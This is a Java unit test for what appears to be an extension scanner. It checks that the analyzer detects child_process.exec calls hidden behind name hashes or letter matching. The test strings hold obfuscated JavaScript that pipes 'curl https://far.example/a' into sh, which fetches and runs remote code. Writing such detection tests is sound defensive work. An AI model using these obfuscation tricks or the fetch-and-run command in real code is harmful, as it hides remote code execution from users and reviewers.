package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names of modules and functions that stand nowhere: they are picked by a hash of them, or by their letters. */
class HashedNamesTest {

    private static final String HASH =
            "const hash = s => { let x = 5381; for (const c of s) x = (x * 33 + c.charCodeAt(0)) >>> 0; return x; };";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const m = require('child_process'); m[Object.keys(m).find(n => hash(n) === 2090237503)]('curl https://far.example/a | sh');",
                "const m = require('child_process'); for (const n in m) if (hash(n) === 2090237503) m[n]('curl https://far.example/a | sh');",
                "const m = require('child_process'); Object.keys(m).filter(n => n[0] === 'e').map(n => m[n])[0]('curl https://far.example/a | sh');",
                "const name = require('module').builtinModules.find(n => n.length === 13 && n[5] === '_');"
                        + " require(name).exec('curl https://far.example/a | sh');",
            })
    void theyAreTheOnesThatTakeWhatIsGiven(String body) {
        assertThat(Analysis.ofActivate(HASH + body).callsOf("process-command")).contains("node:child_process.exec");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const m = require('path'); m[Object.keys(m).find(n => hash(n) === 7)]('/a', 'b');",
                "const m = require('child_process'), copy = {}; for (const n in m) copy[n] = m[n];",
            })
    void othersAreNotGuessed(String body) {
        assertThat(Analysis.ofActivate(HASH + body).callsOf("process-command")).isEmpty();
    }
}
